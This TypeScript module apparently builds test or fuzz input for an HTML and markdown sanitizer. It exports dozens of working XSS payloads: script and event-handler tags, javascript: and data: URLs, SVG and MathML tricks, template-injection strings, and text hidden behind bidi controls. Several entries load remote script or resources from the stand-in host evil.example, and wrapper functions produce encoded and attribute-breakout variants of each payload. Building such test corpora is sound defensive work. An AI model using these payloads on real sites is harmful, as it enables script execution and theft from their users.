/** What a customer might write to make a page do something: families, each in several disguises. */

const CALL = '__pwned()'
const HOST = 'evil.example'

export const families: string[] = [
  // Elements that run or load by themselves.
  `<script>${CALL}</script>`,
  `<ScRiPt >${CALL}</sCrIpT >`,
  `<script src=//${HOST}/a.js></script>`,
  `<script/x>${CALL}</script/x>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=//${HOST}/p.png>`,
  `<img srcset="//${HOST}/p.png 2x">`,
  `<IMG SRC=x OnErRoR=${CALL}>`,
  `<img/src=x/onerror=${CALL}>`,
  `<img src=x onerror\n=\n${CALL}>`,
  `<image src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=9>点我</text></a>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>${CALL}</script>">`,
  `<math><mtext><style><img src=x onerror=${CALL}></style></mtext></math>`,
  `<math href="javascript:${CALL}">点我</math>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src=//${HOST}/></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<object data=//${HOST}/o.swf></object>`,
  `<embed src=//${HOST}/e.swf>`,
  `<video><source onerror=${CALL}></video>`,
  `<video poster=//${HOST}/p.png src=//${HOST}/v.mp4></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<body onload=${CALL}>`,
  `<details open ontoggle=${CALL}>看</details>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}></select>`,
  `<marquee onstart=${CALL}>走</marquee>`,
  `<style>@import '//${HOST}/s.css'</style>`,
  `<style onload=${CALL}></style>`,
  `<link rel=stylesheet href=//${HOST}/s.css>`,
  `<link rel=prefetch href=//${HOST}/f>`,
  `<meta http-equiv=refresh content="0;url=//${HOST}/m">`,
  `<meta http-equiv=refresh content="0;url=/healthz">`,
  `<base href=//${HOST}/>`,
  `<form action=//${HOST}/f><button autofocus>送</button></form>`,
  `<div style="background:url(//${HOST}/b.png)">块</div>`,
  `<div style="animation:x" onanimationstart=${CALL}>块</div><style>@keyframes x{}</style>`,
  `<p onpointerenter=${CALL} style="position:fixed;inset:0">盖住</p>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<xss id=x tabindex=1 onfocus=${CALL}></xss>`,
  `<a href="javascript:${CALL}">点我</a>`,
  `<a href="java\tscript:${CALL}">点我</a>`,
  `<a href="data:text/html,<script>${CALL}</script>">点我</a>`,
  // Addresses on their own.
  `javascript:${CALL}`,
  `JaVaScRiPt://%0a${CALL}`,
  `data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKCk8L3NjcmlwdD4=`,
  `vbscript:${CALL}`,
  `http://${HOST}"onmouseover=${CALL}//`,
  `https://${HOST}/?q=<img src=x onerror=${CALL}>`,
  `https://${HOST}@${HOST}/javascript:${CALL}`,
  // Templates and markup languages.
  `{{constructor.constructor('${CALL}')()}}`,
  `{{_c.constructor('${CALL}')()}}`,
  `{{$emit.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<%= ${CALL} %>#{${CALL}}`,
  `@:click="${CALL}" v-html="'<img src=x onerror=${CALL}>'"`,
  `%s%c<img src=x onerror=${CALL}>`,
  `[点我](javascript:${CALL})`,
  `![图](https://${HOST}/i.png)`,
  `<https://${HOST}/auto>`,
  // Text that plays tricks on whoever reads it.
  `\u202Egpj.<img src=x onerror=${CALL}>`,
  `\u2066<b>\u2069\u200F<img src=x onerror=${CALL}>`,
  `\u2028<script>${CALL}</script>\u2029`,
  `Z͑͗a̛l̕g҉o<svg onload=${CALL}>`,
  `👩‍👩‍👧‍👦<img src=x onerror=${CALL}>`,
]

type Disguise = (text: string) => string
const disguises: Disguise[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'><x y='${text}`,
  (text) => `</textarea></title></style></script>-->]]>${text}`,
  (text) => `<b title="${text}`,
  (text) => text.replace(/[<>"'&]/g, (c) => `&#x${c.charCodeAt(0).toString(16)};`),
  (text) => encodeURIComponent(text),
  (text) => text.replace(/[<>'"]/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => `[${text}](https://${HOST}/ "${text}")`,
  (text) => `{{'${text}'}}`,
]

export const strings: string[] = [...new Set(disguises.flatMap((dress) => families.map(dress)))]

/** Short enough for a name. */
export const names = families.filter((text) => text.length <= 64 && !/\p{Cc}/u.test(text))
